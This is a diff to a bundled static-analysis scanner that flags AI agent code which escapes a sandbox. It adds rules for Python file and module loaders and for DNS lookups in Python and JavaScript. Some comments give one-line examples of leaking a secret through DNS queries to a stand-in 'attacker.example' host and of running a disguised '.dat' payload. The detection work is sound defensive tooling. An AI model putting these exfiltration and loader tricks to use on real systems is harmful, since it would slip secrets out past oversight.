@@ -4826,8 +4826,30 @@ var EVALUATORS = {
     "runpy.run_path": { reads: "file" },
     "runpy.run_module": { reads: "file" },
     "importlib.machinery.SourceFileLoader": { reads: "file" },
+    "importlib.machinery.SourcelessFileLoader": { reads: "file" },
+    "importlib.machinery.ExtensionFileLoader": { reads: "file" },
+    // A finder for a folder, with the loaders and suffixes it is given (`FileFinder(d, (SourceFileLoader, [".dat"]))`).
+    "importlib.machinery.FileFinder": { reads: "file" },
+    "importlib.machinery.FileFinder.path_hook": { reads: "file" },
+    // Import reading other suffixes as source (`SOURCE_SUFFIXES.append(".dat")`, then `import payload` runs payload.dat).
+    "importlib.machinery.SOURCE_SUFFIXES.append": { reads: "file" },
+    "importlib.machinery.SOURCE_SUFFIXES.extend": { reads: "file" },
+    "importlib.machinery.SOURCE_SUFFIXES.insert": { reads: "file" },
+    // importlib.machinery's classes where they are defined.
+    "importlib._bootstrap_external.SourceFileLoader": { reads: "file" },
+    "importlib._bootstrap_external.SourcelessFileLoader": { reads: "file" },
+    "importlib._bootstrap_external.ExtensionFileLoader": { reads: "file" },
+    "importlib._bootstrap_external.FileFinder": { reads: "file" },
+    "importlib._bootstrap_external.spec_from_file_location": { reads: "file" },
     "importlib.util.spec_from_file_location": { reads: "file" },
+    // A zip archive's module run (the archive alone is read for data: pkg_resources, pip).
+    "zipimport.zipimporter().load_module": { reads: "file" },
+    "zipimport.zipimporter().exec_module": { reads: "file" },
     "imp.load_source": { reads: "file" },
+    "imp.load_compiled": { reads: "file" },
+    "imp.load_dynamic": { reads: "file" },
+    "imp.load_module": { reads: "file" },
+    "imp.load_package": { reads: "file" },
     // A native library loaded: its functions run outside anything the scan reads (`ctypes.CDLL(None).system(b"…")`).
     "ctypes.CDLL": { reads: "file" },
     "ctypes.PyDLL": { reads: "file" },
@@ -4876,7 +4898,7 @@ var EVALUATORS = {
   }
 };
 var EVALUATOR_MODULES = {
-  python: ["builtins", "runpy", "importlib.machinery", "importlib.util", "imp", "pickle", "dill", "ctypes", "code"],
+  python: ["builtins", "runpy", "importlib.machinery", "importlib._bootstrap_external", "importlib.util", "zipimport", "imp", "pickle", "dill", "ctypes", "code"],
   javascript: ["vm", "worker_threads", "repl", "inspector", "inspector/promises"]
 };
 var moduleOf = (language, target) => EVALUATOR_MODULES[language].find((module2) => target.startsWith(`${module2}.`));
@@ -4897,6 +4919,8 @@ var SOCKET_USE = ["connect", "connect_ex", "sendto"];
 var socketUse = (cls) => call(...SOCKET_USE.flatMap((m) => [`${cls}${RETURNED}.${m}`, `${cls}.${m}`]));
 var EVENT_LOOPS = ["get_running_loop", "get_event_loop", "new_event_loop"];
 var HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
+var LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
+var DNS_QUERIES = ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTxt", "reverse"];
 var LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect"];
 var LOOP_SUBPROCESS = ["subprocess_exec", "subprocess_shell"];
 var withAsync = (prefix, ...paths) => paths.flatMap((p) => [p, p.replace(/[^.]+$/, `${prefix}$&`)]);
@@ -5011,6 +5035,14 @@ var DEFAULT_SPECS = [
   py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
   py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
   py("socket", { ...call("create_connection"), ...inert("socket"), ...socketUse("socket") }, "network"),
+  // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
+  py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
+  // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
+  py("dns.resolver", { ...call("resolve", "query", "resolve_address", "resolve_name", "zone_for_name"), ...client("Resolver") }, "network"),
+  py("dns.asyncresolver", { ...call("resolve", "resolve_address", "resolve_name", "zone_for_name"), ...client("Resolver") }, "network"),
+  py("dns.query", call("udp", "tcp", "tls", "https", "quic", "udp_with_fallback", "xfr", "inbound_xfr"), "network"),
+  py("aiodns", client("DNSResolver"), "network"),
+  py("pycares", client("Channel"), "network"),
   py("websockets", call("connect", "client.connect", "sync.client.connect", "asyncio.client.connect"), "network"),
   // pycurl: a Curl handle (or a multi handle driving several) is the client that performs the transfers.
   py("pycurl", client("Curl", "CurlMulti"), "network"),
@@ -5099,6 +5131,9 @@ var DEFAULT_SPECS = [
   js("http2", call("connect"), "network", "call"),
   js("net", call("connect", "createConnection"), "network", "call"),
   js("tls", call("connect"), "network", "call"),
+  // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
+  js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
+  js("dns/promises", { ...call(...DNS_QUERIES), ...client("Resolver") }, "network"),
   // A UDP socket crosses when it sends a datagram or connects to a peer, not when it is made (as Python's socket).
   js("tcp_wrap", client("TCP"), "network", "new"),
   js("pipe_wrap", client("Pipe"), "network", "new"),
@@ -6281,7 +6316,8 @@ function bindFactories({ source, root, bindings, known, resolve, binders, rebind
       const method = owner ? void 0 : language.staticMethod?.(value);
       if (method && !bindings.slotPath(method.slot.split("."))) {
         binders.push(method.owner.startIndex, value.startIndex);
-        bindings.bindSlot(method.slot, { ...through(path2, value.parent ?? value), returns: true });
+        const held = through(path2, value.parent ?? value);
+        bindings.bindSlot(method.slot, method.returns ? { ...held, returns: true } : held);
         named2.push(method.owner.text);
       }
       if (!owner || bindings.boundIn(scope, owner.text)) continue;
@@ -6320,7 +6356,7 @@ function mentionedIn(source, names) {
 function makesFactory(source, root, known, resolve, language, from, to) {
   return returnedValues(source, root, known, language, from, to).some((value) => {
     const path2 = resolve(value);
-    return path2 !== void 0 && !path2.returns && path2.module !== NOTHING && language.ownerName(value) !== void 0;
+    return path2 !== void 0 && !path2.returns && path2.module !== NOTHING && (language.ownerName(value) ?? language.staticMethod?.(value)) !== void 0;
   });
 }
 function enclosing(node, stops) {
@@ -7578,7 +7614,7 @@ function staticMethod(value) {
   const owner = declaration2?.type === "class_declaration" ? declaration2.childForFieldName("name") : null;
   const name2 = fn.childForFieldName("name");
   const top = declaration2?.parent?.type === "program" || declaration2?.parent?.type === "export_statement" && declaration2.parent.parent?.type === "program";
-  return owner && name2?.type === "property_identifier" && top ? { owner, slot: `${owner.text}.${name2.text}` } : void 0;
+  return owner && name2?.type === "property_identifier" && top ? { owner, slot: `${owner.text}.${name2.text}`, returns: true } : void 0;
 }
 var JS_FACTORIES = { arrows: true, fallback: JS_FALLBACK, ownerName: factoryName, staticMethod };
 function projectImport(node, specifier, bindings, project2) {
@@ -8170,9 +8206,14 @@ var RELATIVE_NAME = /^[rRuUfF]{0,2}['"]\./;
 var SPEC_FINDERS = /* @__PURE__ */ new Set(["importlib.util.find_spec", "util.find_spec", "find_spec"]);
 var SPEC_LOADERS = /* @__PURE__ */ new Set(["importlib.util.module_from_spec", "util.module_from_spec", "module_from_spec"]);
 var SPEC = "__spec__";
+var PATH_FINDER = "importlib.machinery.PathFinder.find_spec";
+var PATH_FINDER_MAKERS = /* @__PURE__ */ new Set(["importlib.machinery.PathFinder", "zipimport.zipimporter"]);
+var FINDER_MODULE = /^(?:importlib|zipimport)\b/;
+var PATH_SPEC_FINDERS = new Set([...PATH_FINDER_MAKERS].map((maker) => `${maker}.${RETURNED}.find_spec`));
 var UNREAD_SPEC = "<unread spec>";
 var SPEC_RUN = /\.\s*loader\s*\.\s*(?:exec_module|load_module)$/;
 var NAME_RESOLVERS = /* @__PURE__ */ new Set(["pkgutil.resolve_name", "resolve_name"]);
+var LOADER_NAMES = new Set([...SPEC_FINDERS, ...SPEC_LOADERS, ...IMPORTERS, ...NAME_RESOLVERS].filter((name2) => !name2.includes(".")));
 var ATTRIBUTE_GETTERS = /* @__PURE__ */ new Set(["operator.attrgetter", "attrgetter"]);
 var METHOD_CALLERS = /* @__PURE__ */ new Set(["operator.methodcaller", "methodcaller"]);
 var METHOD_CALLER_AT = /^(?:operator\s*\.\s*)?methodcaller\s*\(/;
@@ -8206,7 +8247,7 @@ function analyzePython(tree, source, language, filter, withComments, timeLimitMs
       if (!shadows2(bindings, name2) || fresh && !fresh.named(name2)) continue;
       const definition = outer ? node.parent : void 0;
       const scope = definition ? bindings.scopeOf(node, definition) : bindings.scopeOf(node);
-      if (scope === bindings.scopes.rootId && !bindings.names.has(name2) && !BUILTIN_EVALUATORS.has(name2)) continue;
+      if (scope === bindings.scopes.rootId && !bindings.names.has(name2) && !BUILTIN_EVALUATORS.has(name2) && !(definition && LOADER_NAMES.has(name2))) continue;
       binders.push(node.startIndex);
       bindings.bind(scope, name2, void 0);
       if (definition) bindings.shadowStar(scope, name2, () => !definition.childForFieldName("superclasses") && unconditional(definition) ? definition.endIndex : void 0);
@@ -8476,11 +8517,7 @@ var Resolver2 = class {
     if (!fn) return void 0;
     const name2 = fn.text.replace(/\s+/g, "");
     if (name2 === "getattr" && !this.bindings.declared("getattr", fn)) return this.member(args2[0], args2[1], node, depth);
-    if (SPEC_FINDERS.has(name2) && this.builtIn(name2, fn)) {
-      const module2 = args2[0] && args2[0].type !== "keyword_argument" ? this.constants.stringOf(args2[0]) : void 0;
-      if (module2 === void 0) return args2[0] && !RELATIVE_NAME.test(args2[0].text) ? through({ module: UNREAD_SPEC, members: [] }, node) : void 0;
-      return this.filter.relevant(module2) ? through({ module: module2, members: [SPEC] }, node) : void 0;
-    }
+    if (SPEC_FINDERS.has(name2) && this.builtIn(name2, fn)) return this.specFound(args2, node);
     if (SPEC_LOADERS.has(name2) && this.builtIn(name2, fn)) {
       const spec = args2[0] ? this.resolve(args2[0], args2[0].text, depth + 1) : void 0;
       return spec?.members.at(-1) === SPEC ? through({ ...spec, members: spec.members.slice(0, -1) }, node) : void 0;
@@ -8493,8 +8530,8 @@ var Resolver2 = class {
     if (IMPORTERS.has(name2) && this.builtIn(name2, fn) || held !== void 0 && held !== "resolve_name") {
       const module2 = this.constants.stringOf(args2[0]);
       if (module2 === void 0 || module2.startsWith(".")) return void 0;
-      const dotted = (held ?? name2).endsWith("__import__") ? module2.split(".")[0] : module2;
-      return this.filter.relevant(dotted) ? through({ module: dotted, members: [] }, node) : void 0;
+      const dotted2 = (held ?? name2).endsWith("__import__") ? module2.split(".")[0] : module2;
+      return this.filter.relevant(dotted2) ? through({ module: dotted2, members: [] }, node) : void 0;
     }
     if (NAME_RESOLVERS.has(name2) && this.builtIn(name2, fn) || held === "resolve_name") {
       const [top, ...members] = this.constants.stringOf(args2[0])?.split(/[.:]/) ?? [];
@@ -8528,10 +8565,20 @@ var Resolver2 = class {
     if (entry) return through(entry, node);
     const base = this.resolve(fn, fn.text, depth + 1);
     if (!base) return this.containerGet(fn, args2, node);
+    const dotted = !base.returns && FINDER_MODULE.test(base.module) ? [base.module, ...base.members].join(".") : void 0;
+    if (dotted === "importlib.util.find_spec") return this.specFound(args2, node);
+    if (dotted !== void 0 && (PATH_SPEC_FINDERS.has(dotted) || dotted === PATH_FINDER && args2.length > 1)) return through({ module: UNREAD_SPEC, members: [] }, node);
+    if (dotted !== void 0 && PATH_FINDER_MAKERS.has(dotted)) return extend(base, RETURNED);
     if (base.members.length >= 3 && base.members.at(-3) === SPEC && base.members.at(-2) === "loader" && base.members.at(-1) === "load_module") return through({ ...base, members: base.members.slice(0, -3) }, node);
     if (base.returns) return called(base, node);
     if (base.module === FILE_CLASS) return base.members.length === 0 ? extend(base, RETURNED) : void 0;
     return this.filter.returnsWatched(base) ? extend(base, RETURNED) : void 0;
+  }
+  /** What `find_spec(…)` given `args` returns: the spec of the watched module it names, or of a module named at run time (UNREAD_SPEC). */
+  specFound(args2, node) {
+    const module2 = args2[0] && args2[0].type !== "keyword_argument" ? this.constants.stringOf(args2[0]) : void 0;
+    if (module2 === void 0) return args2[0] && !RELATIVE_NAME.test(args2[0].text) ? through({ module: UNREAD_SPEC, members: [] }, node) : void 0;
+    return this.filter.relevant(module2) ? through({ module: module2, members: [SPEC] }, node) : void 0;
   }
   /** `d.get("run")` of a container slot (`d = {"run": subprocess.run}`): the slot `d.run` (asked when `d.get` itself is nothing). */
   containerGet(fn, args2, node) {
@@ -8688,7 +8735,31 @@ function factoryName2(value) {
   const holder = fn.parent?.type === "decorated_definition" ? fn.parent.parent : fn.parent;
   return holder?.type === "module" ? fn.childForFieldName("name") ?? void 0 : void 0;
 }
-var PY_FACTORIES = { arrows: false, fallback: PY_FALLBACK, ownerName: factoryName2 };
+var MAX_CLASS_NESTING = 8;
+var CLASS_METHOD = /^@\s*(?:staticmethod|classmethod)\s*$/;
+var PROPERTY = /^@\s*(?:functools\s*\.\s*)?(?:cached_)?property\s*$/;
+function classMethod(value) {
+  const fn = enclosing(value, FUNCTIONS2);
+  const decorated = fn?.type === "function_definition" ? fn.parent : void 0;
+  const name2 = fn?.childForFieldName("name");
+  if (decorated?.type !== "decorated_definition" || !name2) return void 0;
+  const decorators = decorated.namedChildren.filter((c) => c?.type === "decorator").map((c) => c.text);
+  const returns = decorators.some((d) => CLASS_METHOD.test(d));
+  if (!returns && !decorators.some((d) => PROPERTY.test(d))) return void 0;
+  const classes = [];
+  let owner;
+  for (let body2 = decorated.parent; classes.length < MAX_CLASS_NESTING && body2?.type === "block" && body2.parent?.type === "class_definition"; ) {
+    const definition = body2.parent;
+    owner = definition.childForFieldName("name") ?? void 0;
+    if (!owner) return void 0;
+    classes.unshift(owner.text);
+    const holder = definition.parent?.type === "decorated_definition" ? definition.parent.parent : definition.parent;
+    if (holder?.type === "module") return { owner, slot: returns ? `${classes.join(".")}.${name2.text}` : `self.${name2.text}`, returns };
+    body2 = holder;
+  }
+  return void 0;
+}
+var PY_FACTORIES = { arrows: false, fallback: PY_FALLBACK, ownerName: factoryName2, staticMethod: classMethod };
 function projectImport2(node, moduleNode, module2, bindings, project2, scopeOf) {
   for (const child of node.namedChildren) {
     if (child?.type === "wildcard_import") {
@@ -8862,7 +8933,7 @@ var dynamicCode = defineRule({
   severity: "error",
   category: "scan",
   summary: "Agent code runs code the scan cannot read: exec, eval, compile, new Function, vm or a string timer given a value that is not a constant string; a module loaded by a name computed at run time; a file run by its path (runpy, a source loader); a pickle loaded.",
-  help: `Code handed to the language's evaluator as a string \u2014 Python's \`exec\`, \`eval\`, \`compile\`, the \`code\` module's \`runsource\`/\`runcode\`/\`push\`/\`compile_command\`; JavaScript's \`eval\`, \`Function\`/\`new Function\` (also reached through \`constructor\`: \`x.constructor.constructor(code)\`, \`(async () => {}).constructor(code)\`), \`vm.runInThisContext\`/\`runInNewContext\`/\`runInContext\`/\`compileFunction\`, \`new vm.Script\`, \`new vm.SourceTextModule\`, \`new Worker(code, { eval: true })\`, \`setTimeout\`/\`setInterval\` given a string, an inspector session's \`post("Runtime.evaluate", { expression })\` \u2014 runs with the agent's rights (a worker given a script not named as a JavaScript source, \`new Worker("./payload.txt")\`, is this error too), as does a file run or loaded by its path or name (\`runpy.run_path\`/\`run_module\`, \`SourceFileLoader\`, \`spec_from_file_location\`, \`imp.load_source\`: any file, whatever its name; a web worker's \`importScripts(url)\`), an interactive interpreter reading a stream (\`require("repl").start()\`, Python's \`code.interact()\`), a native library loaded (\`ctypes.CDLL\`, \`cdll.LoadLibrary\`, \`process.dlopen\`) and a pickle loaded (\`pickle.loads\`/\`load\`/\`Unpickler\`, \`dill\`: unpickling calls whatever function its data names), which are always this error; so is a module loaded by a name the scan cannot read (\`require(n)\`, \`import(atob(\u2026))\`, \`process.getBuiltinModule(x)\`, \`__import__(b64decode(\u2026))\`, \`importlib.import_module(name)\`: any module, a shell or network one included) \u2014 a name written as a path (\`require("./plugins/" + p)\`, \`path.join(__dirname, f)\`) or relative to a Python package (\`import_module(f".{name}", __package__)\`) names a project file, judged on its own, and is not. Where the code is a constant the scan can read (a literal, literals joined, a string constant of the file; at most ${MAX_CODE_CHARS.toLocaleString("en")} characters), it is scanned as code of the same language, ${MAX_CODE_DEPTH} levels deep at most, and each crossing in it is reported at the call ("It runs in the code passed to \`exec\`"). Where it is not (\`exec(base64.b64decode(\u2026))\`, \`eval(atob(\u2026))\`, code built at run time, read from a file or a model's reply), the scan cannot say what it reaches, so it reports this error, as Bandit (B102, B307) and ESLint (no-eval, no-new-func, no-implied-eval) do. The builtins only: a function of the file named \`exec\` or \`eval\`, a parameter, local or import of that name, or a method (\`re.compile\`, \`cursor.exec(\u2026)\`, \`regex.exec(s)\`) is not one. Run generated code through the tool gateway (a sandboxed code-execution tool) instead; for a one-off, add \`# flowgate: ignore-boundary -- <reason>\` (Python) or \`// flowgate: ignore-boundary -- <reason>\` (JS/TS) at the end of the line.`,
+  help: `Code handed to the language's evaluator as a string \u2014 Python's \`exec\`, \`eval\`, \`compile\`, the \`code\` module's \`runsource\`/\`runcode\`/\`push\`/\`compile_command\`; JavaScript's \`eval\`, \`Function\`/\`new Function\` (also reached through \`constructor\`: \`x.constructor.constructor(code)\`, \`(async () => {}).constructor(code)\`), \`vm.runInThisContext\`/\`runInNewContext\`/\`runInContext\`/\`compileFunction\`, \`new vm.Script\`, \`new vm.SourceTextModule\`, \`new Worker(code, { eval: true })\`, \`setTimeout\`/\`setInterval\` given a string, an inspector session's \`post("Runtime.evaluate", { expression })\` \u2014 runs with the agent's rights (a worker given a script not named as a JavaScript source, \`new Worker("./payload.txt")\`, is this error too), as does a file run or loaded by its path or name (\`runpy.run_path\`/\`run_module\`, \`SourceFileLoader\`, \`SourcelessFileLoader\`, \`ExtensionFileLoader\`, \`FileFinder\`, \`spec_from_file_location\`, a zip archive's \`zipimporter(\u2026).load_module\`, \`imp.load_source\`/\`load_compiled\`/\`load_dynamic\`/\`load_module\`, \`SOURCE_SUFFIXES.append(\u2026)\`: any file, whatever its name, even a constant path naming a project file (the finding shows the reviewer what runs; suppress it with a reason); a web worker's \`importScripts(url)\`), an interactive interpreter reading a stream (\`require("repl").start()\`, Python's \`code.interact()\`), a native library loaded (\`ctypes.CDLL\`, \`cdll.LoadLibrary\`, \`process.dlopen\`) and a pickle loaded (\`pickle.loads\`/\`load\`/\`Unpickler\`, \`dill\`: unpickling calls whatever function its data names), which are always this error; so is a module loaded by a name the scan cannot read (\`require(n)\`, \`import(atob(\u2026))\`, \`process.getBuiltinModule(x)\`, \`__import__(b64decode(\u2026))\`, \`importlib.import_module(name)\`: any module, a shell or network one included) \u2014 a name written as a path (\`require("./plugins/" + p)\`, \`path.join(__dirname, f)\`) or relative to a Python package (\`import_module(f".{name}", __package__)\`) names a project file, judged on its own, and is not. Where the code is a constant the scan can read (a literal, literals joined, a string constant of the file; at most ${MAX_CODE_CHARS.toLocaleString("en")} characters), it is scanned as code of the same language, ${MAX_CODE_DEPTH} levels deep at most, and each crossing in it is reported at the call ("It runs in the code passed to \`exec\`"). Where it is not (\`exec(base64.b64decode(\u2026))\`, \`eval(atob(\u2026))\`, code built at run time, read from a file or a model's reply), the scan cannot say what it reaches, so it reports this error, as Bandit (B102, B307) and ESLint (no-eval, no-new-func, no-implied-eval) do. The builtins only: a function of the file named \`exec\` or \`eval\`, a parameter, local or import of that name, or a method (\`re.compile\`, \`cursor.exec(\u2026)\`, \`regex.exec(s)\`) is not one. Run generated code through the tool gateway (a sandboxed code-execution tool) instead; for a one-off, add \`# flowgate: ignore-boundary -- <reason>\` (Python) or \`// flowgate: ignore-boundary -- <reason>\` (JS/TS) at the end of the line.`,
   message: (evaluator, reason) => `\`${evaluator}\` runs code the scan cannot read (${reason}); what it runs could bypass ${BYPASSED}.`
 });
 var unusedSuppression = defineRule({
@@ -9032,6 +9103,7 @@ var LanguageRules = class {
       this.byModule.set(spec.module, list);
     }
     const modules = [...this.byModule.keys()];
+    modules.forEach((module2, i2) => this.moduleOrder.set(module2, i2));
     const escape = (s) => s.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
     if (language === "python") {
       const tops = [...new Set(modules.map((m) => m.split(".")[0]))];
@@ -9105,6 +9177,8 @@ var LanguageRules = class {
   /** Cheap test: a file that fails it cannot contain a match (every match needs this text), so it is not parsed. */
   prefilter;
   byModule = /* @__PURE__ */ new Map();
+  /** Each module's place in byModule: the order specsOf yields them in. */
+  moduleOrder = /* @__PURE__ */ new Map();
   /** The members the table names of a module (what `from os import *` or `export * from "child_process"` brings). */
   explicitMembers(module2) {
     return [...new Set((this.byModule.get(module2) ?? []).flatMap((s) => Object.entries(s.members).filter(([m, kind]) => kind !== "inert" && m !== DEFAULT && /^[\w$]+$/.test(m)).map(([m]) => m)))];
@@ -9157,10 +9231,13 @@ var LanguageRules = class {
       return;
     }
     const dotted = [path2.module, ...path2.members].join(".");
-    for (const [module2, specs] of this.byModule) {
-      if (dotted !== module2 && !dotted.startsWith(`${module2}.`)) continue;
+    const under = [];
+    for (let dot = dotted.indexOf("."); dot >= 0; dot = dotted.indexOf(".", dot + 1)) if (this.byModule.has(dotted.slice(0, dot))) under.push(dotted.slice(0, dot));
+    if (this.byModule.has(dotted)) under.push(dotted);
+    if (under.length > 1) under.sort((a, b) => this.moduleOrder.get(a) - this.moduleOrder.get(b));
+    for (const module2 of under) {
       const members = dotted === module2 ? [] : dotted.slice(module2.length + 1).split(".");
-      for (const spec of specs) yield { spec, members };
+      for (const spec of this.byModule.get(module2)) yield { spec, members };
     }
   }
 };
